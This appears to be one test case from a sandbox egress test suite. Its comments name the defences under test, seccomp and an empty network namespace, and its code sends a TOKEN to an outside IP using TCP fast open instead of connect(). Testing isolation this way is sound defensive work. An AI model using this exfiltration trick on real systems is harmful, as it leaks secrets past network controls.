# title: connects and sends in one call, without connect (TCP fast open)
# harm: reaches
# egress: public.example:80
# B: seccomp refuses sockets
# C: an empty network namespace
s = socket.socket()
s.sendto(TOKEN.encode(), 0x20000000, ('93.184.216.34', 443)); time.sleep(0.2)
